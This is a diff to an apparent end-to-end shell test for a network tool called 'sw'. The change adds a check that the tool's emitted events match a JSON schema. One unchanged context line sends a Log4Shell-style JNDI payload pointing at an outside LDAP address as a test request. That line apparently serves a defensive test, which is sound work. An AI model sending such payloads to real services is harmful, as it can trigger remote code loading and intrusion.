@@ -200,4 +200,9 @@ sw attach net1 -q
 new_self
 check "the next load brings them back" not ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
 sw detach --all -q
+events_are_valid() {
+	sw events --json | python3 "$top/tests/e2e/valid_events.py"
+}
+check "its events are those of docs/schema.json" events_are_valid
+
 finish
